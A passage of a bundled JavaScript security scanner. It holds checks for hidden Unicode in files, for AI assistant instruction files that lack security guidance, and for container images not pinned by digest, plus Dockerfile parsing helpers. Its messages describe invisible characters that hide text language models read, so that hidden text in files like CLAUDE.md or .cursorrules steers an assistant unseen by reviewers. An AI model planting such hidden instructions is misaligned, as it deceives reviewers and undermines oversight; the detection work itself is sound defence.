17-256"}],"instruction-files":["(?:^|/)CLAUDE(?:\\\\.local)?\\\\.md$","(?:^|/)AGENTS?\\\\.md$","(?:^|/)GEMINI\\\\.md$","(?:^|/)CONVENTIONS\\\\.md$","(?:^|/)\\\\.cursorrules$","(?:^|/)\\\\.cursor/rules/","(?:^|/)\\\\.windsurfrules$","(?:^|/)\\\\.windsurf/rules/","(?:^|/)\\\\.clinerules(?:/|$)","(?:^|/)\\\\.roorules$","(?:^|/)\\\\.roo/rules(?:-[^/]+)?/","(?:^|/)\\\\.github/copilot-instructions\\\\.md$","(?:^|/)\\\\.github/instructions/","(?:^|/)\\\\.github/prompts/","(?:^|/)\\\\.github/chatmodes/","(?:^|/)\\\\.junie/guidelines\\\\.md$","(?:^|/)\\\\.kiro/steering/","(?:^|/)\\\\.amazonq/rules/","(?:^|/)\\\\.aider\\\\.conf\\\\.ya?ml$","(?:^|/)\\\\.claude/(?:agents|commands|skills)/"],"skipped-extensions":["png","jpg","jpeg","gif","bmp","ico","icns","webp","avif","tif","tiff","psd","pdf","zip","gz","tgz","bz2","xz","zst","7z","rar","jar","war","ear","class","dll","exe","so","dylib","a","o","obj","lib","bin","wasm","pyc","pyo","whl","woff","woff2","ttf","otf","eot","mp3","mp4","m4a","wav","ogg","flac","mov","avi","mkv","webm","db","sqlite","sqlite3","parquet","avro","onnx","pt","pth","safetensors","npy","npz","pkl","h5","map"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/check-data.ts
+
+/**
+ * Curated lists a check keeps beside its metadata in data/checks/<id>.json. Like `ruleFromMeta`, broken
+ * shipped data throws at module load, where the registry test sees it, instead of silently matching nothing.
+ */
+function record(meta) {
+    if (typeof meta !== 'object' || meta === null || Array.isArray(meta)) {
+        throw new Error('check metadata must be a JSON object');
+    }
+    return meta;
+}
+function where(meta, key) {
+    const id = record(meta)['id'];
+    return `data/checks/${typeof id === 'string' ? id : '?'}.json: "${key}"`;
+}
+function dataStrings(meta, key) {
+    const value = record(meta)[key];
+    if (!Array.isArray(value) || value.length === 0)
+        throw new Error(`${where(meta, key)} must be a list`);
+    return value.map((item) => {
+        if (typeof item !== 'string' || item === '')
+            throw new Error(`${where(meta, key)} must hold strings`);
+        return item;
+    });
+}
+function compiled(meta, key, source, flags) {
+    try {
+        return new RegExp(source, flags);
+    }
+    catch (thrown) {
+        throw new Error(`${where(meta, key)} holds an invalid pattern: ${source}`, { cause: thrown });
+    }
+}
+/** Regular expressions kept as strings; `flags` are added to each. */
+function dataPatterns(meta, key, flags = '') {
+    return dataStrings(meta, key).map((source) => compiled(meta, key, source, flags));
+}
+/** A list of `{ "name": …, "pattern": … }` objects. */
+function dataNamedPatterns(meta, key) {
+    const value = record(meta)[key];
+    if (!Array.isArray(value) || value.length === 0)
+        throw new Error(`${where(meta, key)} must be a list`);
+    return value.map((item) => {
+        const entry = typeof item === 'object' && item !== null ? item : {};
+        const { name, pattern } = entry;
+        if (typeof name !== 'string' || typeof pattern !== 'string' || name === '' || pattern === '') {
+            throw new Error(`${where(meta, key)} must hold { "name", "pattern" } strings`);
+        }
+        return { name, pattern: compiled(meta, key, pattern, '') };
+    });
+}
+/**
+ * The rule of an informational check. `ruleFromMeta` insists on a security-severity inside the severity's
+ * band, which `info` cannot have: GitHub bands start at 0.1 and severity.ts maps info to 0. So info metadata
+ * carries no "security-severity"; everything else is validated by `ruleFromMeta` itself, and the SARIF
+ * writer leaves `security-severity` (and the `security` tag) off info rules.
+ */
+function infoRuleFromMeta(meta) {
+    const fields = record(meta);
+    if (fields['severity'] !== 'info' || 'security-severity' in fields) {
+        throw new Error(`${where(meta, 'severity')} must be "info", without a "security-severity"`);
+    }
+    const rule = ruleFromMeta({ ...fields, severity: 'low', 'security-severity': 0.1 });
+    return { ...rule, severity: 'info', securitySeverity: 0 };
+}
+/** `defineCheck` for informational checks (see `infoRuleFromMeta`). */
+function defineInfoCheck(spec) {
+    const rule = infoRuleFromMeta(spec.meta);
+    return {
+        id: rule.name,
+        rule,
+        appliesTo: (path) => spec.appliesTo(path),
+        run: (file) => spec.run(file, rule),
+    };
+}
+function dataNumber(meta, key) {
+    const value = record(meta)[key];
+    if (typeof value !== 'number' || !Number.isFinite(value))
+        throw new Error(`${where(meta, key)} must be a number`);
+    return value;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/hidden-unicode.ts
+/** Finding invisible and reordering characters in text, without flagging their legitimate uses. */
+const KINDS = ['bidi', 'zero-width', 'invisible-text'];
+const BOM = 0xfeff;
+const ZWJ = 0x200d;
+/** Supplementary variation selectors: after an ideograph they select a glyph variant (an IVS). */
+const VARIATION_SELECTORS = 0xe0100;
+/** An emoji flag for a subdivision (England, Scotland, Wales): black flag, 2-7 tag letters or digits, cancel tag. */
+const FLAG_SEQUENCE = '\\u{1F3F4}[\\u{E0030}-\\u{E0039}\\u{E0061}-\\u{E007A}]{2,7}\\u{E007F}';
+const EMOJI_BEFORE_JOINER = /^[\p{Extended_Pictographic}\p{Emoji_Modifier}\u{FE0F}]$/u;
+const EMOJI = /^\p{Extended_Pictographic}$/u;
+/** Letters and marks of scripts beyond Latin, where joiners and zero-width spaces are ordinary spelling. */
+const JOINING_LETTER = /^[\p{L}\p{M}]$/u;
+const IDEOGRAPH = /^\p{Ideographic}$/u;
+function hex(text, where) {
+    if (!/^[0-9A-F]{4,6}$/.test(text))
+        throw new Error(`${where}: "${text}" is not an upper-case hex code point`);
+    return Number.parseInt(text, 16);
+}
+/** Reads the `hidden-characters` list of a check's data; throws on broken data, like `ruleFromMeta`. */
+function hiddenRanges(value, where) {
+    if (!Array.isArray(value) || value.length === 0)
+        throw new Error(`${where} must be a list`);
+    return value.map((item) => {
+        const entry = typeof item === 'object' && item !== null ? item : {};
+        const kind = KINDS.find((known) => known === entry['kind']);
+        const { from, to, names, group } = entry;
+        if (kind === undefined || typeof from !== 'string' || typeof to !== 'string') {
+            throw new Error(`${where} entries need a kind (${KINDS.join(', ')}), from and to`);
+        }
+        const range = { kind, from: hex(from, where), to: hex(to, where) };
+        if (typeof group === 'string')
+            return { ...range, group };
+        const size = range.to - range.from + 1;
+        if (!Array.isArray(names) || names.length !== size || !names.every((name) => typeof name === 'string')) {
+            throw new Error(`${where}: ${from}-${to} needs a group or one name per code point`);
+        }
+        return { ...range, names };
+    });
+}
+const codePointHex = (codePoint) => `U+${codePoint.toString(16).toUpperCase().padStart(4, '0')}`;
+function describeHidden(codePoint, range) {
+    if (range.group !== undefined)
+        return `${codePointHex(range.from)}–${codePointHex(range.to)} ${range.group}`;
+    return `${codePointHex(codePoint)} ${range.names?.[codePoint - range.from] ?? ''}`.trim();
+}
+function codePointBefore(text, index) {
+    const low = text.charCodeAt(index - 1);
+    const start = low >= 0xdc00 && low <= 0xdfff && index >= 2 ? index - 2 : index - 1;
+    return index < 1 ? '' : String.fromCodePoint(text.codePointAt(start) ?? 0);
+}
+function codePointAfter(text, index, width) {
+    const next = text.codePointAt(index + width);
+    return next === undefined ? '' : String.fromCodePoint(next);
+}
+/** Joiners inside emoji sequences and zero-width characters between letters of non-Latin scripts. */
+function isOrdinary(text, hit, width) {
+    if (hit.codePoint === BOM)
+        return hit.index === 0;
+    const before = codePointBefore(text, hit.index);
+    if (hit.range.kind === 'invisible-text')
+        return hit.codePoint >= VARIATION_SELECTORS && IDEOGRAPH.test(before);
+    if (hit.range.kind !== 'zero-width')
+        return false;
+    const after = codePointAfter(text, hit.index, width);
+    if (hit.codePoint === ZWJ && EMOJI_BEFORE_JOINER.test(before) && EMOJI.test(after))
+        return true;
+    const scriptLetter = (char) => JOINING_LETTER.test(char) && (char.codePointAt(0) ?? 0) >= 0x370;
+    return scriptLetter(before) && scriptLetter(after);
+}
+function hiddenScanner(ranges) {
+    const hexEscape = (codePoint) => `\\u{${codePoint.toString(16)}}`;
+    const characterClass = ranges.map((range) => `${hexEscape(range.from)}-${hexEscape(range.to)}`).join('');
+    const pattern = new RegExp(`(${FLAG_SEQUENCE})|[${characterClass}]`, 'gu');
+    return (text) => {
+        const hits = [];
+        for (const match of text.matchAll(pattern)) {
+            if (match[1] !== undefined)
+                continue;
+            const codePoint = match[0].codePointAt(0) ?? 0;
+            const range = ranges.find((candidate) => codePoint >= candidate.from && codePoint <= candidate.to);
+            if (range === undefined)
+                continue;
+            const hit = { index: match.index, codePoint, range };
+            if (!isOrdinary(text, hit, match[0].length))
+                hits.push(hit);
+        }
+        return hits;
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/yaml-nodes.ts
+
+/**
+ * Read-only navigation of parsed YAML for checks: every helper takes `unknown`, follows aliases and answers
+ * "nothing" for a node of the wrong kind, so hostile or odd documents never throw.
+ */
+function yaml_nodes_resolve(node, document) {
+    return (0,dist/* isAlias */.Vj)(node) ? node.resolve(document) : node;
+}
+/** The string-keyed entries of a mapping, values resolved; empty for anything that is not a mapping. */
+function entriesOf(node, document) {
+    const map = yaml_nodes_resolve(node, document);
+    if (!(0,dist/* isMap */.jh)(map))
+        return [];
+    return map.items.flatMap((pair) => (0,dist/* isScalar */.jn)(pair.key) && typeof pair.key.value === 'string'
+        ? [{ key: pair.key.value, keyNode: pair.key, value: yaml_nodes_resolve(pair.value, document) }]
+        : []);
+}
+function entryOf(node, key, document) {
+    return entriesOf(node, document).find((entry) => entry.key === key);
+}
+/** The value under `key` in a mapping, following aliases. */
+function yaml_nodes_valueOf(node, key, document) {
+    return entryOf(node, key, document)?.value;
+}
+function yaml_nodes_itemsOf(node, document) {
+    const seq = yaml_nodes_resolve(node, document);
+    return (0,dist/* isSeq */.oP)(seq) ? seq.items.map((item) => yaml_nodes_resolve(item, document)) : [];
+}
+function stringScalar(node) {
+    return (0,dist/* isScalar */.jn)(node) && typeof node.value === 'string' ? node : undefined;
+}
+function stringOf(node) {
+    return stringScalar(node)?.value;
+}
+/** Line starts of any text, so non-YAML checks report positions exactly as `scalarRegion` does. */
+function lineCounterOf(text) {
+    const lines = new dist/* LineCounter */.HN();
+    lines.addNewLine(0);
+    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
+        lines.addNewLine(at + 1);
+    return lines;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/ai-instructions-integrity.ts
+
+
+
+
+
+const scan = hiddenScanner(hiddenRanges(ai_instructions_integrity_namespaceObject["hidden-characters"], 'data/checks/ai-instructions-integrity.json'));
+const INSTRUCTION_FILES = dataPatterns(ai_instructions_integrity_namespaceObject, 'instruction-files');
+const SKIPPED = new Set(dataStrings(ai_instructions_integrity_namespaceObject, 'skipped-extensions'));
+const MINIFIED = /\.min\.(?:[cm]?js|css)$/i;
+const MAX_LISTED = 6;
+const WHY = {
+    bidi: 'bidirectional controls display the line in a different order than compilers, interpreters and models read it (Trojan Source)',
+    'zero-width': 'zero-width characters are invisible and can hide inside words and identifiers',
+    'invisible-text': 'tag characters and variation selectors encode invisible text that language models still read',
+};
+/** Every text file; binary formats, minified bundles and source maps are not worth reading. */
+function appliesTo(path) {
+    const name = path.slice(path.lastIndexOf('/') + 1);
+    const dot = name.lastIndexOf('.');
+    return !(dot > 0 && SKIPPED.has(name.slice(dot + 1).toLowerCase())) && !MINIFIED.test(name);
+}
+/** "U+202E RIGHT-TO-LEFT OVERRIDE ×2, U+2066 LEFT-TO-RIGHT ISOLATE ×1", in order of first appearance. */
+function inventory(hits) {
+    const counts = new Map();
+    for (const hit of hits) {
+        const name = describeHidden(hit.codePoint, hit.range);
+        counts.set(name, (counts.get(name) ?? 0) + 1);
+    }
+    const listed = [...counts].slice(0, MAX_LISTED).map(([name, count]) => `${name} ×${count}`);
+    const more = counts.size - listed.length;
+    return more > 0 ? `${listed.join(', ')} and ${more} other kinds` : listed.join(', ');
+}
+/** One finding per line, from the first hidden character to the end of the last. */
+function ai_instructions_integrity_detectionFor(file, rule, hits, line) {
+    const first = hits[0];
+    const last = hits[hits.length - 1];
+    const kinds = [...new Set(hits.map((hit) => hit.range.kind))].map((kind) => WHY[kind]);
+    const instructions = INSTRUCTION_FILES.some((pattern) => pattern.test(file.path))
+        ? ' This is an AI assistant instruction file: hidden text here steers the assistant without reviewers seeing it.'
+        : '';
+    const count = hits.length === 1 ? '1 hidden character' : `${hits.length} hidden characters`;
+    return {
+        ruleId: rule.id,
+        message: `Hidden Unicode: ${count} on this line (${inventory(hits)}); ${kinds.join('; ')}.${instructions}`,
+        location: {
+            path: file.path,
+            region: {
+                startLine: line,
+                startColumn: first?.column ?? 1,
+                endLine: line,
+                endColumn: (last?.column ?? 1) + (last === undefined || last.codePoint > 0xffff ? 2 : 1),
+            },
+        },
+    };
+}
+function ai_instructions_integrity_run(file, rule) {
+    const hits = scan(file.text);
+    if (hits.length === 0)
+        return SKIP;
+    const lines = lineCounterOf(file.text);
+    const byLine = new Map();
+    for (const hit of hits) {
+        const { line, col } = lines.linePos(hit.index);
+        const placed = { ...hit, line, column: col };
+        const onLine = byLine.get(line);
+        if (onLine === undefined)
+            byLine.set(line, [placed]);
+        else
+            onLine.push(placed);
+    }
+    return {
+        detections: [...byLine].map(([line, onLine]) => ai_instructions_integrity_detectionFor(file, rule, onLine, line)),
+        notes: [],
+    };
+}
+const aiInstructionsIntegrity = defineCheck({ meta: ai_instructions_integrity_namespaceObject, appliesTo, run: ai_instructions_integrity_run });
+
+;// CONCATENATED MODULE: ./data/checks/ai-instructions-no-security-guidance.json
+const ai_instructions_no_security_guidance_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"ai-instructions-no-security-guidance","title":"AI assistant instructions say nothing about security","description":"The repository\'s main instruction file for an AI coding assistant (CLAUDE.md, AGENTS.md, GEMINI.md, .cursorrules, .windsurfrules, .clinerules, .github/copilot-instructions.md, .junie/guidelines.md) never mentions security: not secrets or credentials, input validation, injection, authentication, cryptography, dependencies, OWASP or CWE. Assistants follow these files on every request; without a word on security they fall back to whatever their training makes likely, and studies find a large share of assistant-written code vulnerable. This is advice, not a vulnerability.","help":"Add a short, specific security section to the instruction file. The OpenSSF guide explains what works: concise, actionable rules rather than long policies. For example:\\n\\n```markdown\\n## Security\\n- Validate and sanitize all external input; use parameterized queries, never string-built SQL or shell commands.\\n- Never hardcode secrets or credentials; read them from the environment or a secrets manager.\\n- Use well-known libraries for authentication and cryptography; no MD5/SHA-1 for passwords.\\n- Add dependencies only from the official registry, pinned, after checking the package exists and is maintained.\\n- Pin GitHub Actions by full commit SHA and container images by digest.\\n```\\n\\nReferences:\\n- OpenSSF, [Security-Focused Guide for AI Code Assistant Instructions](https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions)\\n- OWASP, [Top 10](https://owasp.org/www-project-top-ten/)","helpUri":"https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions","cwe":[],"severity":"info","precision":"medium","tags":["ai-assistant","best-practice"],"asvs":[],"$comment":"primary-instruction-files: the one file per tool that every request reads (scoped rule folders and nested files only add to it, so they are not required to repeat the guidance). security-terms: case-insensitive word beginnings; any one of them is enough.","primary-instruction-files":["^CLAUDE\\\\.md$","^\\\\.claude/CLAUDE\\\\.md$","^AGENTS\\\\.md$","^GEMINI\\\\.md$","^\\\\.cursorrules$","^\\\\.windsurfrules$","^\\\\.clinerules$","^\\\\.github/copilot-instructions\\\\.md$","^\\\\.junie/guidelines\\\\.md$"],"security-terms":["secur","insecur","secret","credential","password","passphrase","api key","api-key","validat","saniti","escap","inject","xss","csrf","ssrf","owasp","cwe","cve","vulnerab","exploit","attack","threat","untrusted","authenticat","authori","encrypt","crypto","tls","least privilege","privacy","pii","sast","semgrep","codeql","dependabot","supply chain","supply-chain","sbom"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/ai-instructions-no-security-guidance.ts
+
+
+
+const PRIMARY = dataPatterns(ai_instructions_no_security_guidance_namespaceObject, 'primary-instruction-files');
+const escaped = (term) => term.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+/** Word beginnings: `secur` matches "secure" and "security". */
+const SECURITY_TERMS = new RegExp(`\\b(?:${dataStrings(ai_instructions_no_security_guidance_namespaceObject, 'security-terms').map(escaped).join('|')})`, 'i');
+function ai_instructions_no_security_guidance_run(file, rule) {
+    if (SECURITY_TERMS.test(file.text))
+        return SKIP;
+    return {
+        detections: [
+            {
+                ruleId: rule.id,
+                message: `\`${file.path}\` tells the AI assistant nothing about security (no mention of secrets, input ` +
+                    'validation, injection, authentication, cryptography, dependencies, OWASP or CWE). Add a short ' +
+                    'security section; the OpenSSF "Security-Focused Guide for AI Code Assistant Instructions" ' +
+                    '(https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions) shows what to write.',
+                location: { path: file.path, region: { startLine: 1 } },
+            },
+        ],
+        notes: [],
+    };
+}
+const aiInstructionsNoSecurityGuidance = defineInfoCheck({
+    meta: ai_instructions_no_security_guidance_namespaceObject,
+    appliesTo: (path) => PRIMARY.some((pattern) => pattern.test(path)),
+    run: ai_instructions_no_security_guidance_run,
+});
+
+;// CONCATENATED MODULE: ./data/checks/container-unpinned.json
+const container_unpinned_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"container-unpinned","title":"Container image not pinned by digest","description":"A Dockerfile (`FROM`, `COPY --from=`), a Compose service or a Kubernetes container uses an image by tag or without any tag. Tags are mutable: the registry serves whatever was pushed under the tag last, so the same file builds or runs different software over time, and whoever can push to the repository (its owner, or an attacker with a stolen token) can swap it. `latest` and a missing tag (which means `latest`) are reported as high; a version tag without a digest as medium.","help":"Pin every image by its digest and keep the tag for readers and for update tools:\\n\\n```dockerfile\\n# instead of\\nFROM node:22-alpine\\n# write\\nFROM node:22-alpine@sha256:<64 hex digest>\\n```\\n\\nGet the digest with `docker buildx imagetools inspect node:22-alpine` (the `Digest:` line, for the multi-platform index) or `crane digest node:22-alpine`. In Compose and Kubernetes write `image: nginx:1.27@sha256:<digest>`. Dependabot (`docker` ecosystem) and Renovate update pinned digests together with their tags, so pinning does not mean falling behind. When the image comes from a build argument, pin the ARG\'s default.\\n\\nReferences:\\n- Docker, [Building best practices: pin base image versions](https://docs.docker.com/build/building/best-practices/#pin-base-image-versions)\\n- Kubernetes, [Images: image names](https://kubernetes.io/docs/concepts/containers/images/#image-names)\\n- OpenSSF Scorecard, [Pinned-Dependencies](https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies)","helpUri":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions","cwe":["CWE-829","CWE-1357"],"severity":"high","security-severity":7.5,"precision":"high","tags":["security","supply-chain","containers"],"asvs":["v5.0.0-15.2.4"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/image-reference.ts
+/** OCI image references as Dockerfiles, Compose files and Kubernetes manifests write them. */
+const DIGEST = /@sha256:[0-9a-f]{64}$/i;
+/** Registry, repository path, tag and digest characters; anything else is not an image reference to judge. */
+const PLAUSIBLE = /^[A-Za-z0-9][A-Za-z0-9._\-/:@+]*$/;
+const MAX_SHOWN = 200;
+const PIN_ADVICE = 'pin it by digest, keeping the tag for readers';
+function shown(text) {
+    return text.length > MAX_SHOWN ? `${text.slice(0, MAX_SHOWN - 1)}…` : text;
+}
+function hasDigest(reference) {
+    return DIGEST.test(reference);
+}
+/**
+ * Whether an image reference is pinned by digest; undefined when it is not a plausible reference at all
+ * (empty, a template, an unresolved variable). `latest` and a missing tag are high: they change with every
+ * push; a version tag is medium: tags are mutable, but someone chose a version.
+ */
+function imagePinning(reference) {
+    if (!PLAUSIBLE.test(reference))
+        return undefined;
+    if (DIGEST.test(reference))
+        return { kind: 'pinned' };
+    const quoted = `\`${shown(reference)}\``;
+    const at = reference.indexOf('@');
+    const named = at < 0 ? reference : reference.slice(0, at);
+    const colon = named.indexOf(':', named.lastIndexOf('/') + 1);
+    const name = shown(colon < 0 ? named : named.slice(0, colon));
+    const tag = colon < 0 ? undefined : named.slice(colon + 1);
+    const pinned = `\`${name}:${tag === undefined || tag === '' ? '<version>' : shown(tag)}@sha256:<digest>\``;
+    if (at >= 0) {
+        const reason = `${quoted} has a malformed digest, which pins nothing (a digest is \`@sha256:\` and 64 hex digits); ${PIN_ADVICE}: ${pinned}.`;
+        return { kind: 'floating', severity: 'high', reason };
+    }
+    if (tag === undefined || tag === '') {
+        const reason = `${quoted} names no tag, so it pulls whatever \`latest\` is at the time; ${PIN_ADVICE}: ${pinned}.`;
+        return { kind: 'floating', severity: 'high', reason };
+    }
+    if (tag.toLowerCase() === 'latest') {
+        const reason = `${quoted} follows the moving \`latest\` tag; pick a version and ${PIN_ADVICE}: \`${name}:<version>@sha256:<digest>\`.`;
+        return { kind: 'floating', severity: 'high', reason };
+    }
+    const reason = `${quoted} is pinned by tag only, and a tag can be pushed again with different contents; ${PIN_ADVICE}: ${pinned}.`;
+    return { kind: 'floating', severity: 'medium', reason };
+}
+const VARIABLE = /\$\$|\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-+?])([^}]*))?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g;
+/**
+ * Expands `$NAME`, `${NAME}`, `${NAME:-default}`, `${NAME-default}` and `${NAME:+alternative}` (the forms
+ * Dockerfiles and Compose files share; `$$` is a literal `$`). Answers undefined when a value is unknown.
+ */
+function substitute(text, known) {
+    const unknown = [];
+    const result = text.replace(VARIABLE, (whole, braced, operator, word, bare) => {
+        if (whole === '$$')
+            return '$';
+        const value = known(braced ?? bare ?? '');
+        const set = value !== undefined && (value !== '' || operator?.startsWith(':') !== true);
+        if (operator?.endsWith('+'))
+            return set ? (word ?? '') : '';
+        if (operator?.endsWith('-') && !set)
+            return word ?? '';
+        if (value === undefined)
+            unknown.push(whole);
+        return value ?? '';
+    });
+    return unknown.length > 0 ? undefined : result;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dockerfile-images.ts
+
+const words = (text) => [...text.matchAll(/\S+/g)].map((match) => ({ value: match[0], start: match.index }));
+const unquote = (value) => value.replace(/^(["'])(.*)\1$/, '$2');
+/** `ARG NAME` and `ARG NAME=default`, several per instruction allowed. */
+function readArgs(instruction, args) {
+    for (const { value } of words(instruction.text)) {
+        const equals = value.indexOf('=');
+        const name = equals < 0 ? value : value.slice(0, equals);
+        // A default may use earlier ARGs; one that uses an unknown value is unknown itself.
+        const fallback = equals < 0
+            ? undefined
+            : substitute(unquote(value.slice(equals + 1)), (known) => args.get(known)?.value);
+        args.set(name, { value: fallback, line: instruction.line });
+    }
+}
+/** `scratch` is no image, and stage names are case-insensitive references to earlier stages. */
+const isLocal = (reference, stages) => reference.toLowerCase() === 'scratch' || stages.has(reference.toLowerCase());
+function resolved(written, args, stages) {
+    if (isLocal(written, stages))
+        return undefined;
+    if (!written.includes('$'))
+        return { reference: written };
+    // Whatever the variables hold, a digest pins the image; without defaults the image is unknown here.
+    if (hasDigest(written))
+        return undefined;
+    const reference = substitute(written, (name) => args.get(name)?.value);
+    if (reference === undefined || isLocal(reference, stages))
+        return undefined;
+    const used = [...written.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].flatMap(([, name]) => {
+        const arg = name === undefined ? undefined : args.get(name);
+        return arg === undefined ? [] : [`ARG ${name} (line ${arg.line})`];
+    });
+    const via = `\`${shown(written)}\` is \`${shown(reference)}\` by the default of ${[...new Set(used)].join(', ')}`;
+    return { reference, via };
+}
+function fromImage(instruction, args, stages) {
+    const all = words(instruction.text);
+    const at = all.findIndex((word) => !word.value.startsWith('--'));
+    const image = all[at];
+    const alias = all[at + 1]?.value.toLowerCase() === 'as' ? all[at + 2]?.value : undefined;
+    const use = image && resolved(image.value, args, stages);
+    if (alias !== undefined)
+        stages.add(alias.toLowerCase());
+    if (!image || !use)
+        return [];
+    return [
+        { instruction, start: image.start, end: image.start + image.value.length, written: image.value, ...use },
+    ];
+}
+function copyFrom(instruction, stages) {
+    const flag = words(instruction.text).find((word) => word.value.toLowerCase().startsWith('--from='));
+    if (flag === undefined)
+        return [];
+    const written = flag.value.slice('--from='.length);
+    // A number is a stage index; variables are not expanded in --from.
+    if (written === '' || /^\d+$/.test(written) || written.includes('$') || isLocal(written, stages))
+        return [];
+    const start = flag.start + '--from='.length;
+    return [{ instruction, start, end: start + written.length, written, reference: written }];
+}
+function dockerfileImages(instructions) {
+    // Only ARGs declared before the first FROM can be used in FROM lines.
+    const args = new Map();
+    const stages = new Set();
+    let inStage = false;
+    return instructions.flatMap((instruction) => {
+        if (instruction.keyword === 'ARG' && !inStage)
+            readArgs(instruction, args);
+        if (instruction.keyword === 'COPY')
+            return copyFrom(instruction, stages);
+        if (instruction.keyword !== 'FROM')
+            return [];
+        inStage = true;
+        return fromImage(instruction, args, stages);
+    });
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dockerfile.ts
+/**
+ * Just enough of the Dockerfile format for checks: instructions with their continuation lines joined and
+ * their heredoc bodies attached, each offset mappable back to the line and column it was written at.
+ * https://docs.docker.com/reference/dockerfile/#format
+ */
+const DOCKERFILE = /(?:^|\/)(?:(?:Dockerfile|Containerfile)(?:\.[^/]+)?|dockerfile|containerfile|[^/]+\.(?:[Dd]ockerfile|[Cc]ontainerfile))$/;
+/** Per-Dockerfile ignore files, documents and code about Dockerfiles are named after them, but are none. */
+const NOT_DOCKERFILE = /\.(?:dockerignore|md|txt|json|ya?ml|sh|ps1|bak|orig|go|py|ts|js|rs|java|rb)$/i;
+/** `Dockerfile`, `Containerfile`, `Dockerfile.<variant>` and `<variant>.Dockerfile`, in any directory. */
+function isDockerfile(path) {
+    return DOCKERFILE.test(path) && !NOT_DOCKERFILE.test(path);
+}
+const DIRECTIVE = /^#\s*([A-Za-z]+)\s*=\s*(\S+)\s*$/;
+const KEYWORD = /^(\s*)(\S+)(\s*)/;
+const HEREDOC = /(?<!<)<<(-?)\s*(["']?)([A-Za-z_][A-Za-z0-9_]*)\2/g;
+const HEREDOC_KEYWORDS = new Set(['RUN', 'COPY', 'ADD']);
+function splitLines(source) {
+    return source.split('\n').map((line) => (line.endsWith('\r') ? line.slice(0, -1) : line));
+}
+/** The `# escape=` parser directive (backslash by default, a backtick on Windows). */
+function escapeOf(lines) {
+    for (const line of lines) {
+        const directive = DIRECTIVE.exec(line);
+        if (!directive)
+            break;
+        if (directive[1]?.toLowerCase() === 'escape' && (directive[2] === '`' || directive[2] === '\\')) {
+            return directive[2];
+        }
+    }
+    return '\\';
+}
+const isCommentOrBlank = (line) => {
+    const trimmed = line.trimStart();
+    return trimmed === '' || trimmed.startsWith('#');
+};
+/** Binary search for the last segment starting at or before `offset`. */
+function positionIn(segments, offset) {
+    let low = 0;
+    let high = segments.length - 1;
+    while (low < high) {
+        const middle = (low + high + 1) >> 1;
+        if ((segments[middle]?.at ?? 0) <= offset)
+            low = middle;
+        else
+            high = middle - 1;
+    }
+    const segment = segments[low] ?? { at: 0, line: 1, col: 1 };
+    return { line: segment.line, col: segment.col + offset - segment.at };
+}
+/** Joins lines ending in the escape character; comment and blank lines inside are dropped, as Docker does. */
+function readContinued(lines, start, escape, reading) {
+    let index = start;
+    let content = reading.text;
+    reading.text = '';
+    let col = (lines[start]?.length ?? 0) - content.length + 1;
+    for (;;) {
+        const trimmed = content.trimEnd();
+        const continued = trimmed.endsWith(escape);
+        reading.segments.push({ at: reading.text.length, line: index + 1, col });
+        reading.text += continued ? trimmed.slice(0, -1) : content;
+        index += 1;
+        if (!continued)
+            break;
+        while (index < lines.length && isCommentOrBlank(lines[index] ?? ''))
+            index += 1;
+        if (index >= lines.length)
+            break;
+        content = lines[index] ?? '';
+        col = 1;
+    }
+    reading.next = index;
+}
+/** Appends each heredoc body (`RUN <<EOF … EOF`) to the instruction, one source line per text line. */
+function readHeredocs(lines, reading) {
+    for (const marker of [...reading.text.matchAll(HEREDOC)]) {
+        const [, dash, , word] = marker;
+        while (reading.next < lines.length) {
+            const line = lines[reading.next] ?? '';
+            reading.next += 1;
+            if ((dash === '-' ? line.replace(/^\t+/, '') : line) === word)
+                break;
+            reading.text += '\n';
+            reading.segments.push({ at: reading.text.length, line: reading.next, col: 1 });
+            reading.text += line;
+        }
+    }
+}
+function parseDockerfile(source) {
+    const lines = splitLines(source);
+    const escape = escapeOf(lines);
+    const instructions = [];
+    let index = 0;
+    while (index < lines.length) {
+        const line = lines[index] ?? '';
+        const keyword = KEYWORD.exec(line);
+        if (isCommentOrBlank(line) || !keyword) {
+            index += 1;
+            continue;
+        }
+        const reading = { text: line.slice(keyword[0].length), segments: [], next: index };
+        readContinued(lines, index, escape, reading);
+        const name = (keyword[2] ?? '').toUpperCase();
+        if (HEREDOC_KEYWORDS.has(name))
+            readHeredocs(lines, reading);
+        const { text, segments } = reading;
+        instructions.push({ keyword: name, line: index + 1, text, position: (at) => positionIn(segments, at) });
+        index = reading.next;
+    }
+    return instructions;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/manifest-images.ts
+
+
+/** Kubernetes lists of containers, wherever a pod template sits (Deployment, CronJob, Pod, operators' CRDs). */
+const CONTAINER_LISTS = new Set(['containers', 'initContainers', 'ephemeralContainers']);
+const MAX_DEPTH = 64;
+/** A cheap look at the text before parsing: only documents with top-level `apiVersion:` and `kind:` count. */
+function looksLikeKubernetes(text) {
+    return /^apiVersion\s*:/m.test(text) && /^kind\s*:/m.test(text);
+}
+/** `services.<name>.image`, except for services that `build:` their image (their `image:` names the result). */
+function composeImages(documents) {
+    const images = documents.flatMap((document) => entriesOf(yaml_nodes_valueOf(document.contents, 'services', document), document).flatMap((service) => {
+        if (entryOf(service.value, 'build', document) !== undefined)
+            return [];
+        const image = stringScalar(yaml_nodes_valueOf(service.value, 'image', document));
+        return image === undefined ? [] : [image];
+    }));
+    // A service reused through an alias is one place to fix: report its image once.
